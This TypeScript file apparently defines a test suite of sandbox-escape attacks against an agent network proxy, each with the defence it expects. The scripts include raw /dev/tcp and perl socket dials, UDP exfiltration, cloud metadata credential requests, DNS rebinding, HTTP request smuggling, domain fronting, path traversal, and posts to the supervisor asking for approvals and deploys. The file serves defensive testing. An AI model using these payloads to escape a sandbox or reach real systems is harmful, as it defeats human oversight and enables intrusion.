import net from 'node:net';
import os from 'node:os';
import {hostName} from '../core/network/target.ts';
import type {SandboxAttack} from './attack.ts';
import {get, httpBait, pause, rawBait, tcpBait, udpBait, viaProxy} from './bait.ts';
import type {Box} from './box.ts';

const namespace = "a network namespace with nothing in it but the run's proxy";
const own = "loopback is the run's own, whoever is asked for it; this machine's has one name, and no other leads there";
const order = 'canonicalise, match, and only then resolve once and check the address';

/** Dials a service of the host's from an empty namespace, past any proxy. */
function dialling(
	id: string,
	title: string,
	source: string,
	host: string,
	dial: (port: number) => string,
): SandboxAttack {
	return {
		kind: 'sandbox',
		id,
		title,
		source,
		answer: namespace,
		network: false,
		prepare: () => tcpBait(host),
		script: (_box, {port}) => dial(port!),
		came: ({output}, _box, bait) => output.includes('hello from the host') && bait.hits!() > 0,
	};
}

/**
 * This machine, spelled as loopback. The rules and the policy name every spelling, as if a person had granted it.
 */
function disguised(id: string, spelling: string, source: string): SandboxAttack {
	return {
		kind: 'sandbox',
		id,
		title: `reach this machine as ${spelling}`,
		source,
		answer: own,
		async prepare(box) {
			const bait = await httpBait('a server of the host', [], spelling === '[::1]' ? '::1' : '127.0.0.1');
			box.rules = ['localhost', '127.0.0.1', '0.0.0.0', '::1', '::ffff:7f00:1', '::', spelling].map(host => ({
				host,
				port: bait.port,
				source: 'granted',
			}));
			box.privateHosts = box.rules;
			return bait;
		},
		script: (_box, {port}) => get(`http://${spelling}:${port}/`),
		came: ({output}, _box, bait) => bait.hits!() > 0 || output.includes('a server of the host'),
	};
}

/** Grants one web server of the host's and nothing else. */
function grant(box: Box, port: number, more: Partial<Box['rules'][number]> = {}): void {
	box.rules = [{host: hostName, port, source: 'granted', ...more}];
}

/** A TLS hello that names a server: what matters of it, written out. */
function hello(name: string): string {
	const bytes = Buffer.from(name, 'latin1');
	const two = (value: number) => [value >> 8, value & 255];
	const extension = [0, 0, ...two(bytes.length + 5), ...two(bytes.length + 3), 0, ...two(bytes.length), ...bytes];
	const body = [
		3,
		3,
		...Array.from({length: 32}, () => 7),
		0,
		0,
		2,
		0x13,
		1,
		1,
		0,
		...two(extension.length),
		...extension,
	];
	const message = [1, 0, ...two(body.length), ...body];
	return [0x16, 3, 1, ...two(message.length), ...message]
		.map(byte => `\\x${byte.toString(16).padStart(2, '0')}`)
		.join('');
}

const zoneId: SandboxAttack = {
	kind: 'sandbox',
	id: 'zone-id',
	title: 'hide an address behind a zone id',
	source: 'fe80::1%eth0 and its like',
	answer: order,
	async prepare(box) {
		const bait = await httpBait('reached', [], '::1');
		box.rules = [
			{host: '::1%lo', port: bait.port, source: 'granted'},
			{host: '::1', port: bait.port, source: 'granted'},
		];
		box.privateHosts = box.rules;
		return bait;
	},
	script: (_box, {port}) => viaProxy(`CONNECT [::1%25lo]:${port} HTTP/1.1\\r\\n\\r\\n`),
	came: ({output}) => /^HTTP\/1\.1 200/m.test(output),
};

export const networkAttacks: readonly SandboxAttack[] = [
	dialling(
		'direct-dial',
		'dial a service of the host, past the proxy',
		'--noproxy, raw sockets, services on loopback',
		'127.0.0.1',
		port =>
			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}); ` +
			`print $s ? <$s> : "no: $!"'`,
	),
	dialling(
		'direct-dial-shell',
		"dial by the shell's /dev/tcp",
		'no program is needed for it',
		'127.0.0.1',
		port => `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3'`,
	),
	...(hasIpv6()
		? [
				dialling(
					'direct-dial-v6',
					'dial a service of the host over IPv6',
					'guards that know IPv4 only',
					'::1',
					port =>
						"perl -MSocket=:all -e 'socket(S, AF_INET6, SOCK_STREAM, 0); " +
						`print connect(S, pack_sockaddr_in6(${port}, inet_pton(AF_INET6, "::1"))) ? <S> : "no: $!"'`,
				),
			]
		: []),
	{
		kind: 'sandbox',
		id: 'datagram',
		title: 'send a datagram out',
		source: 'DNS tunnels',
		answer: namespace,
		network: false,
		prepare: () => udpBait(),
		script: (_box, {port}) =>
			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, ` +
			`Proto => "udp"); print $s->send("exfiltrated") if $s'`,
		async came(_result, _box, bait) {
			await pause(150);
			return bait.hits!() > 0;
		},
	},
	{
		kind: 'sandbox',
		id: 'interfaces',
		title: 'find another way out',
		source: "bridges, tunnels, virtual machines' links",
		answer: namespace,
		network: false,
		script: () => 'tail -n +3 /proc/net/dev | cut -d: -f1; cat /proc/net/route | tail -n +2',
		came: ({output}) => output.split('\n').some(line => line.trim() !== '' && !/^\s*(?:lo)\s*$/.test(line)),
	},
	{
		kind: 'sandbox',
		id: 'packet-socket',
		title: 'open a packet socket',
		source: 'AF_PACKET reaches the wire',
		answer: 'socket families are limited by the system call filter',
		// The filter answers EAFNOSUPPORT (97); anything else is the kernel's own.
		script: () => 'perl -e \'print socket(S, 17, 3, 0) ? "open" : "errno " . ($! + 0)\'',
		came: ({output}) => !output.includes('errno 97'),
	},
	{
		kind: 'sandbox',
		id: 'hypervisor-socket',
		title: 'open a socket to the hypervisor',
		source: 'AF_VSOCK is in no network namespace',
		answer: 'socket families are limited by the system call filter',
		script: () => 'perl -e \'print socket(S, 40, 1, 0) ? "open" : "errno " . ($! + 0)\'',
		// A kernel without it gives the filter's own answer; then there is nothing to reach.
		came: ({output}) => !output.includes('errno 97'),
	},
	{
		kind: 'sandbox',
		id: 'kernel-crypto-socket',
		title: "open a socket into the kernel's crypto",
		source: 'AF_ALG had many holes',
		answer: 'socket families are limited by the system call filter',
		script: () => 'perl -e \'print socket(S, 38, 5, 0) ? "open" : "errno " . ($! + 0)\'',
		came: ({output}) => !output.includes('errno 97'),
	},
	{
		kind: 'sandbox',
		id: 'empty-allow-list',
		title: 'go anywhere when nothing is listed',
		source: 'CVE-2025-66479: an empty allow-list meant "allow all"',
		answer: 'no rule means no',
		async prepare(box) {
			const bait = await httpBait();
			box.privateHosts = [{host: hostName, port: bait.port, source: 'policy'}];
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`),
		came: ({output}) => output.includes('reached'),
	},
	disguised('as-localhost', 'localhost', 'a granted name may mean this machine'),
	disguised('as-short-form', '127.1', 'forms that only some parsers read'),
	disguised('as-hexadecimal', '0x7f000001', 'forms that only some parsers read'),
	disguised('as-decimal', '2130706433', 'forms that only some parsers read'),
	disguised('as-octal', '0177.0.0.1', 'forms that only some parsers read'),
	disguised('as-zero', '0.0.0.0', '0.0.0.0 day'),
	disguised('as-mapped', '[::ffff:127.0.0.1]', 'IPv4 inside IPv6'),
	...(hasIpv6() ? [disguised('as-v6-loopback', '[::1]', 'guards that know IPv4 only')] : []),
	{
		kind: 'sandbox',
		id: 'metadata-service',
		title: "ask a cloud's metadata service",
		source: '169.254.169.254 hands out credentials',
		answer: 'link-local addresses are never dialled, whoever names them',
		prepare(box) {
			box.rules = [{host: '169.254.169.254', source: 'granted'}];
			box.privateHosts = [{host: '169.254.169.254', source: 'policy'}];
			return {};
		},
		script: () => get('http://169.254.169.254/latest/meta-data/'),
		came: ({output}) => !/^HTTP\/1\.1 403/m.test(output),
	},
	{
		kind: 'sandbox',
		id: 'rebinding',
		title: 'have a name resolve to this machine the second time',
		source: 'DNS rebinding',
		answer: order,
		async prepare(box) {
			const bait = await httpBait('inside');
			let asked = 0;
			box.rules = [{host: 'rebind.test', port: bait.port, source: 'granted'}];
			box.privateHosts = box.rules;
			box.resolve = async () => (asked++ % 2 === 0 ? ['192.0.2.1'] : ['127.0.0.1']);
			return bait;
		},
		script: (_box, {port}) =>
			`${get(`http://rebind.test:${port}/`, 'rebind.test')}; ${get(`http://rebind.test:${port}/`, 'rebind.test')}`,
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'name-of-loopback',
		title: 'be granted a name that resolves to this machine',
		source: 'records such as 127-0-0-1.example, /etc/hosts',
		answer: own,
		async prepare(box) {
			const bait = await httpBait('inside');
			box.rules = [{host: 'mine.test', port: bait.port, source: 'granted'}];
			box.privateHosts = box.rules;
			box.resolve = async () => ['127.0.0.1'];
			return bait;
		},
		script: (_box, {port}) => get(`http://mine.test:${port}/`, 'mine.test'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'host-by-pattern',
		title: 'reach this machine by a pattern, or by a grant without a port',
		source: 'grants that open more than they show',
		answer: own,
		async prepare(box) {
			const bait = await httpBait('inside');
			box.rules = [
				{host: '*.fleet.internal', port: bait.port, source: 'granted'},
				{host: hostName, source: 'granted'},
			];
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'half-private-name',
		title: 'mix a public address with a private one',
		source: 'resolvers that try the next address',
		answer: 'one address that may not be dialled spoils the answer',
		async prepare(box) {
			const bait = await httpBait('inside');
			box.rules = [{host: 'mixed.test', port: bait.port, source: 'granted'}];
			box.resolve = async () => ['127.0.0.1', '8.8.8.8'];
			return bait;
		},
		script: (_box, {port}) => get(`http://mixed.test:${port}/`, 'mixed.test'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'resolve-before-decide',
		title: 'send data out in the names that are looked up',
		source: 'a proxy that resolves before it decides leaks through DNS',
		answer: order,
		prepare(box) {
			let asked = 0;
			box.resolve = async () => {
				asked++;
				return ['192.0.2.1'];
			};
			return {hits: () => asked};
		},
		script: () => get('http://stolen-data.evil.test/'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'trailing-dot',
		title: 'name a host with a dot at its end',
		source: 'two spellings of one name',
		answer: order,
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port);
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}.:${port}/`),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'nul-in-host',
		title: 'cut a host name short with a NUL',
		source: 'checks and dialling that read a name differently',
		answer: order,
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port);
			return bait;
		},
		script: (_box, {port}) => viaProxy(`CONNECT ${hostName}\\x00.evil.test:${port} HTTP/1.1\\r\\n\\r\\n`),
		came: ({output}) => /^HTTP\/1\.1 200/m.test(output),
	},
	...(hasIpv6() ? [zoneId] : []),
	{
		kind: 'sandbox',
		id: 'user-info',
		title: 'put another host before an @',
		source: 'granted.test@evil.test',
		answer: order,
		async prepare(box) {
			const bait = await httpBait();
			box.rules = [{host: 'granted.test', port: bait.port, source: 'granted'}];
			return bait;
		},
		script: (_box, {port}) => get(`http://granted.test:${port}@${hostName}:${port}/`),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'other-port',
		title: 'use another port of a granted host',
		source: 'a web server beside a database',
		answer: 'a grant is for one port, or for 443 and 80',
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port + 1);
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'host-header',
		title: 'ask a granted address for another host',
		source: 'Host against request line: domain fronting',
		answer: 'Host is rewritten to what was decided on',
		async prepare(box) {
			const asked: string[] = [];
			const bait = await httpBait('reached', asked);
			grant(box, bait.port);
			return {...bait, hits: () => asked.filter(line => line.includes('evil.test')).length};
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`, 'evil.test'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'server-name',
		title: 'ask a granted tunnel for another host in its TLS hello',
		source: 'SNI against CONNECT: domain fronting',
		answer: 'the hello is read, and another name cuts the tunnel',
		async prepare(box) {
			let hits = 0;
			const bait = await rawBait(() => hits++);
			grant(box, bait.port);
			return {...bait, hits: () => hits};
		},
		script: (_box, {port}) =>
			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128); ` +
			`print $s "CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\n"; sysread($s, $b, 200); print $b; ` +
			`print $s "${hello('evil.test')}"; $s->flush; $SIG{ALRM} = sub { exit }; alarm 1; sysread($s, $b, 1)'`,
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'smuggling',
		title: 'smuggle a second request to another host',
		source: 'Content-Length against Transfer-Encoding',
		answer: 'requests are parsed strictly and written anew',
		async prepare(box) {
			let seen = '';
			const bait = await rawBait(text => {
				seen += text;
			});
			grant(box, bait.port);
			return {...bait, hits: () => (seen.includes('GET /smuggled') ? 1 : 0)};
		},
		script: (_box, {port}) =>
			viaProxy(
				`POST http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n` +
					'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
			),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'smuggling-by-connection',
		title: 'have the proxy leave a length out, so that a body is read as the next request',
		source: 'Content-Length named in the Connection header; bodies of methods that have none',
		answer: "a request's framing is written anew, and what could be read in two ways is refused",
		async prepare(box) {
			let seen = '';
			const bait = await rawBait(text => {
				seen += text;
			});
			grant(box, bait.port, {path: '/open/*'});
			return {...bait, hits: () => (seen.includes('POST /smuggled') ? 1 : 0)};
		},
		script: (_box, {port}) =>
			['Connection: keep-alive, content-length\\r\\n', 'Proxy-Connection: content-length\\r\\n', '']
				.map(named =>
					viaProxy(
						`GET http://${hostName}:${port}/open/a HTTP/1.1\\r\\nHost: x\\r\\n${named}` +
							'Content-Length: 44\\r\\n\\r\\nPOST /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
					),
				)
				.join('\n'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'leave-path',
		title: 'leave the path that was granted',
		source: '.., %2e%2e, %252e, ..;, // and \\ in paths',
		answer: 'a path that can be read in two ways is refused',
		async prepare(box) {
			const asked: string[] = [];
			const bait = await httpBait('reached', asked);
			grant(box, bait.port, {path: '/open/*'});
			return {...bait, hits: () => asked.length};
		},
		script: (_box, {port}) =>
			[
				'/open/../admin',
				'/open/%2e%2e/admin',
				'/open/..%2fadmin',
				'/open//../admin',
				'/admin',
				'/open/.%2E/admin',
				'/open/%252e%252e/admin',
				'/open/..;/admin',
				'/open/%c0%ae%c0%ae/admin',
				'/open/%ef%bc%8e%ef%bc%8e/admin',
			]
				.map(path => get(`http://${hostName}:${port}${path}`))
				.join('\n'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'other-method',
		title: 'write where only reading was granted',
		source: 'a GET that becomes a POST, also by a header that some servers obey',
		answer: 'methods of a rule are checked at every request, and what may mean another is refused',
		async prepare(box) {
			const asked: string[] = [];
			const bait = await httpBait('reached', asked);
			grant(box, bait.port, {methods: ['GET']});
			return {...bait, hits: () => asked.length};
		},
		script: (_box, {port}) =>
			[
				...['POST', 'PUT', 'DELETE', 'PROPFIND'].map(method =>
					viaProxy(
						`${method} http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n` +
							'Connection: close\\r\\n\\r\\n',
					),
				),
				...['X-HTTP-Method-Override: DELETE', 'x_http_method: DELETE', 'X-Original-URL: /admin'].map(header =>
					viaProxy(
						`GET http://${hostName}:${port}/ HTTP/1.1\\r\\nHost: x\\r\\n${header}\\r\\nConnection: close\\r\\n\\r\\n`,
					),
				),
				get(`http://${hostName}:${port}/?_method=DELETE`),
			].join('\n'),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	{
		kind: 'sandbox',
		id: 'tunnel-round-limits',
		title: 'go round a limit of paths by a tunnel',
		source: 'limits that only one way in checks',
		answer: 'a rule with limits opens no tunnel',
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port, {path: '/open/*'});
			return bait;
		},
		script: (_box, {port}) =>
			viaProxy(
				`CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\n` +
					'Connection: close\\r\\n\\r\\n',
			),
		came: (_result, _box, bait) => bait.hits!() > 0,
	},
	...(['tunnel', 'stream'] as const).map((way): SandboxAttack => ({
		kind: 'sandbox',
		id: `${way}-after-revoke`,
		title:
			way === 'tunnel'
				? 'keep using a tunnel after the grant is taken back'
				: 'keep reading an answer after the grant is taken back',
		source: 'other proxies block new connections only',
		answer: 'a revoke destroys open connections',
		async prepare(box) {
			let ticks = 0;
			const server = net.createServer(socket => {
				socket.on('error', () => {});
				socket.write('HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n');
				const timer = setInterval(() => {
					ticks++;
					socket.write(`tick ${ticks}\n`);
					if (ticks >= 60) {
						socket.end();
					}
				}, 20);
				socket.on('close', () => clearInterval(timer));
			});
			await new Promise<void>(resolve => {
				server.listen(0, '127.0.0.1', resolve);
			});
			const {port} = server.address() as net.AddressInfo;
			grant(box, port);
			void (async () => {
				for (let tries = 0; tries < 500 && ticks < 3; tries++) {
					await pause(20);
				}

				box.rules = [];
				box.session.proxy.cut();
			})();
			return {port, hits: () => ticks, close: () => server.close()};
		},
		script: (_box, {port}) =>
			way === 'tunnel'
				? viaProxy(`CONNECT ${hostName}:${port} HTTP/1.1\\r\\n\\r\\n`)
				: get(`http://${hostName}:${port}/`),
		came: ({output}) => output.includes('tick 60'),
	})),
	{
		kind: 'sandbox',
		id: 'ask-for-decision',
		title: 'ask fleet itself for a scope, an approval, a merge or a deploy',
		source: 'approvals asked for in a flood',
		answer: 'agents decide nothing: always 403, and written down',
		script: () =>
			['allow', 'approve', 'merge', 'deploy']
				.map(what =>
					viaProxy(
						`POST http://fleet.internal/${what} HTTP/1.1\\r\\nHost: fleet.internal\\r\\n` +
							'Content-Length: 0\\r\\nConnection: close\\r\\n\\r\\n',
					),
				)
				.join('\n'),
		came: ({output}, box) => /^HTTP\/1\.1 2/m.test(output) || box.asked.length < 4,
	},
];

function hasIpv6(): boolean {
	return Object.values(os.networkInterfaces())
		.flat()
		.some(address => address?.address === '::1');
}
